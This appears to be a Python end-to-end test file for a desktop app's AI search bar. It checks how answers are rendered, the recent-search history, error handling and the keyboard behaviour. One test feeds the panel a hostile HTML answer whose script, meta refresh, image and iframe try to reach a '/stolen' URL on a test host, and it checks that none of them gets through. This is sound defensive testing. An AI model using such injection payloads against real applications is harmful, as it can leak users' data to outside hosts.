"""The search bar: a prompt from anywhere, and its answer in the panel."""
import dataclasses
import json
import pathlib
import re
import subprocess
import time

from harness.case import VelkinTestCase
from harness.completions import Held, cutOff, raw, reset, sharedCompletions, status, well
from harness.services import host
from harness.waiting import settle, waitFor

HOTKEY = "ctrl+shift+r"
ANSWER = """# Sorting

Here is a **short** comparison, with `std::sort` first:

| algorithm | stable |
| --- | --- |
| sort | no |
| stable_sort | yes |

- pick the first
- unless you need *stability*

```cpp
std::sort(v.begin(), v.end());
```

> Measure before you change anything.
"""
# Colours of the answer's page.
LIGHT_PAGE = (0xF0, 0xF0, 0xF4)
DARK_PAGE = (0x16, 0x1B, 0x22)


class Search(VelkinTestCase):
    def setUp(self):
        super().setUp()
        self.completions = sharedCompletions()
        self.completions.clear()
        self.other = self.desktop.openOtherWindow(60, 600)
        self.addCleanup(self.other.wait)
        self.addCleanup(self.other.kill)

    def begin(self, key="sk-test", environment=None, **settings):
        """The program with a key, behind another program's window that has the keyboard."""
        self.home.settled(searchBarKey=key, **settings)
        velkin = self.start(environment=environment)
        other = waitFor("the other window", lambda: self.desktop.windows(title="Event Tester"), 10)[0]
        self.desktop.click(*other.centre)
        waitFor("the other window to be active", lambda: self.desktop.activeWindow() == other.id, 10)
        self.otherWindow = other
        return velkin

    def searchPanel(self):
        found = [w for w in self.desktop.windows() if w.title != "Velkin" and not w.overrideRedirect]
        return found[0] if found else None

    def openPanel(self):
        self.assertIsNone(self.searchPanel(), "the panel is open already")
        self.desktop.key(HOTKEY)
        window = waitFor("the panel", self.searchPanel, 10, describe=self.describeWindows)
        waitFor("the panel to have the keyboard", lambda: self.desktop.activeWindow() == window.id, 10)
        return window

    def waitForPanelToClose(self):
        waitFor("the panel to close", lambda: not self.searchPanel(), 10, describe=self.describeWindows)

    def ask(self, prompt, number=0):
        """Types the prompt into the field, which has the keyboard; returns what the service saw."""
        self.desktop.type(prompt)
        self.desktop.key("Return")
        return self.completions.waitForRequest(number)

    def waitForAnswer(self):
        """The panel with an answer in it is the highest; it is all there when its page is painted."""

        def shown():
            panel = self.searchPanel()
            isThere = panel and panel.height > 400 and self.pageColour(panel) in (LIGHT_PAGE, DARK_PAGE)
            return panel if isThere else None

        return waitFor("the answer", shown, 20, describe=self.describeWindows)

    def tapField(self, panel):
        self.desktop.click(panel.x + 300, panel.y + 45)
        settle(0.2)

    def copied(self, panel):
        """What the Copy button puts on the clipboard; the way to learn what the answer is."""
        holder = self.desktop.copy(b"nothing")
        settle(0.2)
        self.desktop.click(panel.x + panel.width // 2, panel.y + 117)

        def taken():
            # An owner that has just lost the clipboard answers nobody any more.
            text = self.session.output("timeout", "2", "xclip", "-selection", "clipboard", "-o", check=False)
            return text if text not in ("", "nothing") else None

        text = waitFor("the answer on the clipboard", taken, 10)
        holder.wait(10)
        return text

    def searches(self):
        text = self.home.readSettings().get("searchBarRecentSearches", "")
        return json.loads(text)["searches"] if text else []

    def pageColour(self, panel):
        """Of the answer's page, where it is empty."""
        return self.desktop.colourAt(panel.right - 22, panel.bottom - 16)

    def testThePanelOpensOverAnotherProgramWithTheKeyboardInItsField(self):
        self.begin()
        self.completions.willAnswer(well("yes"))
        panel = self.openPanel()
        # Centred, and its frame of 720 x 200 with its middle at 1.3 times the middle of the screen, from below.
        self.assertEqual((panel.x, panel.y, panel.width, panel.height), (280, 215, 720, 200))
        self.assertEqual(self.ask("first letter counts").prompt, "first letter counts")

    def testAnAnswerIsShownAndKept(self):
        self.begin(key="sk-key with blanks ")
        self.completions.willAnswer(well(ANSWER))
        self.openPanel()
        asked = self.ask('Say "it", then\\ sort?')
        self.assertEqual(asked.path, "/v1/chat/completions")
        self.assertEqual(asked.prompt, 'Say "it", then\\ sort?')
        self.assertEqual(asked.key, "sk-key with blanks ", "as it is stored")
        self.assertEqual(json.loads(asked.body), {"model": "gpt-3.5-turbo", "temperature": 0.3, "messages": [
            {"role": "user", "content": 'Say "it", then\\ sort?'}]})
        panel = self.waitForAnswer()
        self.assertEqual((panel.x, panel.y, panel.width), (280, 215, 720))
        waitFor("the page's colour", lambda: self.pageColour(panel) == LIGHT_PAGE, 10,
                describe=lambda: self.pageColour(panel))
        self.assertGreater(self.desktop.coloursIn(panel), 50)
        text = self.copied(panel)
        self.assertTrue(text.startswith('## Say "it", then\\ sort?\n\n<h1>Sorting</h1>'), text[:80])
        for piece in ("<table>", "<li>", "<pre>", "<blockquote", "<code>std::sort</code>"):
            self.assertIn(piece, text)
        search = self.searches()[0]
        self.assertEqual(search["searchPrompt"], 'Say "it", then\\ sort?')
        self.assertEqual(search["resultMarkdown"], text.split("\n\n", 1)[1])
        self.assertLess(abs(search["date"] + 978307200 - time.time()), 120)
        self.assertIn(r"<\/h1>", self.home.readSettings()["searchBarRecentSearches"])

    def testAnEarlierAnswerIsRecalledWithoutARequest(self):
        self.begin()
        self.completions.willAnswer(well("the **one** answer"))
        self.openPanel()
        self.ask("one")
        self.waitForAnswer()
        self.desktop.key("Escape")
        self.waitForPanelToClose()
        panel = self.openPanel()
        self.assertEqual(panel.height, 200, "each panel starts empty")
        self.desktop.click(panel.x + 42, panel.y + 46)
        menu = waitFor("the menu of recent searches",
                       lambda: next((w for w in self.desktop.windows() if w.overrideRedirect), None), 10)
        self.desktop.picture(self.artefact("menu.png"))
        self.desktop.click(menu.centre[0], menu.y + 27)
        # While it is on the screen, a click elsewhere only closes it.
        waitFor("the menu to go", lambda: not [w for w in self.desktop.windows() if w.overrideRedirect], 10)
        panel = self.waitForAnswer()
        self.assertEqual(self.copied(panel), "## one\n\n<p>the <strong>one</strong> answer</p>")
        self.desktop.key("Return")
        settle(0.5)
        self.assertEqual(len(self.completions.requests), 1)

    def testTheBubbleOfRecentsKeepsToItsPlace(self):
        """It moves nothing of the panel, stands below its button without leaving the panel's sides, and is painted to
        its corners where no compositor is."""
        searches = {"searches": [{"date": n, "searchPrompt": f"search {n}"} for n in range(7)]}
        self.begin(searchBarRecentSearches=json.dumps(searches))
        panel = self.openPanel()
        self.desktop.type("typed")
        settle(1)
        row = panel.x + 70, panel.y + 20, 620, 60
        before = self.pixels(*row)
        self.desktop.click(panel.x + 42, panel.y + 46)
        menu = waitFor("the menu of recent searches",
                       lambda: next((w for w in self.desktop.windows() if w.overrideRedirect), None), 10)
        waitFor("its painting", lambda: self.desktop.coloursIn(menu) > 20, 10)
        settle(0.5)
        self.desktop.picture(self.artefact("menu.png"))
        self.assertEqual(self.searchPanel(), panel)
        self.assertGreaterEqual(menu.x, panel.x)
        self.assertLessEqual(menu.right, panel.right)
        self.assertGreater(menu.y, panel.y + 46)
        # What the bubble doesn't cover of the prompt's row: the letters that were typed among it.
        uncovered = [(x, y) for y in range(row[3]) for x in range(row[2])
                     if not (menu.x <= row[0] + x < menu.right and menu.y <= row[1] + y < menu.bottom)]
        self.assertGreater(len(uncovered), 5000)
        after = self.pixels(*row)
        # The field that has lost the keyboard has no cursor any more.
        moved = [place for place in uncovered if before[place] != after[place]]
        self.assertLess(len(moved), 60, moved[:10])
        for x, y in ((menu.x + 2, menu.y + 2), (menu.right - 3, menu.y + 2), (menu.x + 2, menu.bottom - 3),
                     (menu.right - 3, menu.bottom - 3)):
            self.assertGreater(min(self.desktop.colourAt(x, y)), 150, "a black corner")

    def pixels(self, x, y, width, height):
        """{(x, y): colour} of a part of the screen."""
        raw = subprocess.run(["import", "-window", "root", "-crop", f"{width}x{height}+{x}+{y}", "+repage", "-depth",
                              "8", "rgb:-"], env=self.session.environment, stdin=subprocess.DEVNULL,
                             capture_output=True, check=True, timeout=60).stdout
        return {(n % width, n // width): raw[3 * n:3 * n + 3] for n in range(width * height)}

    def testTheHotkeyAndEscapeCloseItAndTheOtherProgramHasTheKeyboardAgain(self):
        self.begin()
        for key in (HOTKEY, "Escape"):
            self.openPanel()
            self.desktop.type("never sent")
            self.desktop.key(key)
            self.waitForPanelToClose()
            waitFor("the other window to be active",
                    lambda: self.desktop.activeWindow() == self.otherWindow.id, 10)
        panel = self.openPanel()
        self.assertEqual(panel.height, 200)

    def testModifiersThatWereReleasedElsewhereAreNotHeld(self):
        self.begin()
        self.completions.willAnswer(well("yes"))
        self.openPanel()
        # Seen going down in the panel, which the shortcut closes, and coming up in the other program.
        self.desktop.hold("ctrl", "shift")
        self.desktop.key("r", clear=False)
        self.waitForPanelToClose()
        self.desktop.release("shift", "ctrl")
        self.session.output("gapplication", "action", "com.tarnvale.Velkin", "toggle-search")
        panel = waitFor("the panel", self.searchPanel, 10)
        waitFor("the panel to have the keyboard", lambda: self.desktop.activeWindow() == panel.id, 10)
        self.assertEqual(self.ask("a tall tree").prompt, "a tall tree")

    def testTheFieldComesBackByATapAndASecondPromptIsSent(self):
        self.begin()
        self.completions.willAnswer(well("first"), well("second"))
        self.openPanel()
        self.ask("one")
        panel = self.waitForAnswer()
        self.tapField(panel)
        self.desktop.key("Return")
        settle(0.4)
        self.assertEqual(len(self.completions.requests), 1, "the same prompt is not sent again")
        self.desktop.key("ctrl+a")
        self.assertEqual(self.ask("two", number=1).prompt, "two")
        settle(0.5)
        self.assertEqual(self.copied(self.waitForAnswer()), "## two\n\n<p>second</p>")
        self.assertEqual([s["searchPrompt"] for s in self.searches()], ["one", "two"])

    def testEveryFailureIsToldAndMayBeTriedAgain(self):
        self.begin()
        start = 'Could not complete request.:-( \nError:Error Domain='
        cases = [
            (status(401), start + 'HTTP Status Code: 401 Code=-1 "(null)"'),
            (status(429), start + 'HTTP Status Code: 429 Code=-1 "(null)"'),
            (status(204, b""), start + 'HTTP Status Code: 204 Code=-1 "(null)"'),
            (raw(b"{broken"), start + "NSCocoaErrorDomain Code=3840"),
            (raw(b'{"choices": []}'), start + 'Invalid JSON Code=-1 "(null)"'),
            (raw(b"x" * 50 * 1024 * 1024), start + "NSURLErrorDomain Code=-1103"),
            (cutOff(), start + "NSURLErrorDomain Code=-1005"),
            (reset, start + "NSURLErrorDomain Code=-1005"),
        ]
        self.completions.willAnswer(*[answer for answer, _ in cases], well("at last"))
        self.openPanel()
        self.desktop.type("again")
        for number, (_, expected) in enumerate(cases):
            self.desktop.key("Return")
            self.completions.waitForRequest(number)
            settle(0.8)
            panel = self.waitForAnswer()
            if number == 0:
                self.desktop.picture(self.artefact("error.png"))
            text = self.copied(panel)
            self.assertTrue(text.startswith("## again\n\n" + expected), text[:300])
            self.tapField(panel)
        self.assertEqual(self.searches(), [])
        self.desktop.key("Return")
        self.completions.waitForRequest(len(cases))
        settle(0.8)
        self.assertEqual(self.copied(self.waitForAnswer()), "## again\n\n<p>at last</p>")

    def testClosingThePanelDuringARequestKeepsTheAnswer(self):
        velkin = self.begin()
        held = Held(well("late"))
        self.completions.willAnswer(held)
        self.openPanel()
        self.ask("slow")
        self.desktop.picture(self.artefact("waiting.png"))
        self.desktop.key("Escape")
        self.waitForPanelToClose()
        held.release()
        waitFor("the answer in the history", self.searches, 10)
        self.assertEqual(self.searches()[0]["resultMarkdown"], "<p>late</p>")
        self.assertTrue(velkin.running())
        self.openPanel()

    def testTheKeyIsEnteredUsedAndReset(self):
        self.begin(key="")
        self.completions.willAnswer(well("thanks"))
        panel = self.openPanel()
        self.assertGreater(panel.height, 220, "it tells how to get a key")
        self.desktop.picture(self.artefact("key.png"))
        self.desktop.type("sk-typed")
        self.desktop.key("Return")
        waitFor("the key in the settings", lambda: self.home.readSettings().get("searchBarKey") == "sk-typed", 10)
        self.assertEqual(self.ask("with a key").key, "sk-typed")
        panel = self.waitForAnswer()
        for _ in range(7):
            self.desktop.click(panel.right - 40, panel.y + 46)
        settle(0.4)
        self.desktop.picture(self.artefact("reset.png"))
        self.desktop.click(panel.x + 60, panel.y + 117)
        waitFor("the key to be gone", lambda: self.home.readSettings()["searchBarKey"] == "", 10)
        waitFor("the panel to tell how to get one", lambda: self.searchPanel().height > 220, 10, self.describeWindows)
        settle(0.3)
        self.desktop.key("Escape")
        self.waitForPanelToClose()
        self.assertGreater(self.openPanel().height, 220, "the key stays gone")

    def testALinkOpensInTheBrowserAndThePanelStays(self):
        self.begin()
        self.completions.willAnswer(well("[" + "a link as wide as the page is " * 3 + "](https://example.org/there)"))
        self.openPanel()
        self.ask("where?")
        panel = self.waitForAnswer()
        self.desktop.click(panel.x + 150, panel.y + 180)
        waitFor("the browser", self.home.openedInBrowser, 10, describe=self.describeWindows)
        self.assertEqual(self.home.openedInBrowser(), ["https://example.org/there"])
        self.assertEqual(self.pageColour(panel), LIGHT_PAGE)

    def testAHostileAnswerReachesNothing(self):
        self.begin()
        hostile = """<script>
for (const host of ["CHAT", "COMPLETIONS"]) {
  const to = "http://" + host + ":8471/stolen";
  fetch(to); new Image().src = to; navigator.sendBeacon(to, "x");
}
window.open("http://CHAT:8471/stolen"); alert("hello"); location = "http://CHAT:8471/stolen";
</script><meta http-equiv="refresh" content="0;url=http://CHAT:8471/stolen">
<img src="http://CHAT:8471/stolen"><iframe src="http://CHAT:8471/stolen"></iframe>

The rest of it.""".replace("CHAT", host(1)).replace("COMPLETIONS", host(7))
        self.completions.willAnswer(well(hostile))
        self.openPanel()
        self.ask("be good")
        panel = self.waitForAnswer()
        settle(2)
        self.assertEqual(self.chat.loads("/stolen"), [])
        self.assertEqual(len(self.completions.requests), 1)
        self.assertEqual(self.home.openedInBrowser(), [])
        self.assertEqual([w.width for w in self.desktop.windows()], [720])
        self.assertEqual(self.pageColour(panel), LIGHT_PAGE)

    def testALongAnswerIsReadToItsEndByTheWheel(self):
        self.begin()
        self.completions.willAnswer(well("word " * 2000 + "\n\n# The end\n\n" + "<br>" * 12))
        self.openPanel()
        self.ask("much?")
        panel = self.waitForAnswer()

        def picture():
            cut = f"640x300+{panel.x + 20}+{panel.y + 170}"
            return self.session.output("import", "-window", "root", "-crop", cut, "-format", "%#", "info:")

        start = waitFor("the answer's page", lambda: self.pageColour(panel) == LIGHT_PAGE and picture(), 10)
        self.desktop.move(*panel.centre)
        self.desktop.scroll(5)
        middle = waitFor("the page to scroll", lambda: next((p for p in [picture()] if p != start), None), 10)
        self.desktop.scroll(60)
        settle(0.5)
        self.assertNotEqual(picture(), middle)
        self.desktop.scroll(-90)
        waitFor("the page's beginning", lambda: picture() == start, 10)

    def testAPageWhoseProcessDiesComesBack(self):
        velkin = self.begin()
        self.completions.willAnswer(well("stays"))
        self.openPanel()
        self.ask("you?")
        panel = self.waitForAnswer()
        waitFor("the answer's page", lambda: self.pageColour(panel) == LIGHT_PAGE, 10)
        self.assertTrue(velkin.killWebProcesses())
        waitFor("the page to be there again", lambda: self.pageColour(panel) == LIGHT_PAGE and velkin.webProcesses(),
                15)
        self.assertEqual(self.copied(panel), "## you?\n\n<p>stays</p>")

    def testADarkDesktopHasADarkAnswer(self):
        self.begin(environment={"ADW_DEBUG_COLOR_SCHEME": "prefer-dark"})
        self.completions.willAnswer(well(ANSWER))
        self.openPanel()
        self.ask("dark?")
        panel = self.waitForAnswer()
        waitFor("the page's colour", lambda: self.pageColour(panel) == DARK_PAGE, 10,
                describe=lambda: self.pageColour(panel))

    def testABrokenHistoryIsNoHindrance(self):
        self.begin(searchBarRecentSearches="{no json")
        self.completions.willAnswer(well("fine"))
        self.openPanel()
        self.ask("one")
        self.waitForAnswer()
        self.assertEqual([s["searchPrompt"] for s in self.searches()], ["one"])

    def testRequestsThatHangDontHoldUpTheNextSearch(self):
        self.begin()
        hanging = [Held(well(f"late {number}")) for number in range(4)]
        self.completions.willAnswer(*hanging, well("at once"))
        for number in range(len(hanging)):
            self.openPanel()
            self.ask(f"slow {number}", number)
            self.desktop.key("Escape")
            self.waitForPanelToClose()
        self.openPanel()
        self.ask("quick", len(hanging))
        self.assertEqual(self.copied(self.waitForAnswer()), "## quick\n\n<p>at once</p>")
        for held in hanging:
            held.release()
        waitFor("the late answers in the history", lambda: len(self.searches()) == 5, 10, self.searches)

    def memory(self, velkin):
        """Of the program itself, in megabytes."""
        text = pathlib.Path(f"/proc/{velkin.process.pid}/status").read_text()
        return int(re.search(r"VmRSS:\s*(\d+)", text).group(1)) / 1024

    def testALongAnswerIsShownAndItsMemoryIsGivenBack(self):
        velkin = self.begin()
        small = well("small")
        long = well("word " * 3_000_000)
        self.completions.willAnswer(small, long)
        for number in range(2):
            self.openPanel()
            self.ask(f"number {number}", number)
            # The page of the long one takes its engine some time, which is not for this test to wait for.
            waitFor("the answer", lambda: self.searchPanel().height > 400, 30)
            settle(1)
            self.desktop.key("Escape")
            self.waitForPanelToClose()
            if number == 0:
                settle(8)
                before = self.memory(velkin)
        waitFor("the memory to be given back", lambda: self.memory(velkin) < before + 10, 40,
                lambda: f"{before:.0f} MB before, {self.memory(velkin):.0f} MB now")
        self.assertEqual([s["searchPrompt"] for s in self.searches()], ["number 0", "number 1"])
        self.assertNotIn("resultMarkdown", self.searches()[1], "far too long to be kept")

    def testAPastedPromptKeepsItsLines(self):
        self.begin()
        self.completions.willAnswer(well("fine"))
        panel = self.openPanel()
        prompt = "int main() {\n\treturn 0;\n}\n\nWhat is this?"
        holder = self.desktop.copy(prompt.encode())
        self.addCleanup(holder.wait)
        self.addCleanup(holder.kill)
        self.desktop.key("ctrl+v")
        settle(0.5)
        self.desktop.picture(self.artefact("pasted.png"))
        self.assertEqual(self.searchPanel().height, panel.height, "it is one line")
        self.desktop.key("Return")
        self.assertEqual(self.completions.waitForRequest().prompt, prompt)

    def testAPromptThatIsTooLongIsToldToBeCut(self):
        self.begin()
        panel = self.openPanel()
        holder = self.desktop.copy(b"x" * 70_000)
        self.addCleanup(holder.wait)
        self.addCleanup(holder.kill)
        # Where the words will stand, below the field.
        below = dataclasses.replace(panel, x=panel.x + 150, y=panel.y + 85, width=panel.width - 300, height=30)
        colours = self.desktop.coloursIn(below)
        self.desktop.key("ctrl+v")
        waitFor("the words below the field", lambda: self.desktop.coloursIn(below) > colours, 10)
        settle(0.3)
        self.desktop.picture(self.artefact("cut.png"))
        self.desktop.key("ctrl+a")
        self.completions.willAnswer(well("fine"))
        self.assertEqual(self.ask("short").prompt, "short")
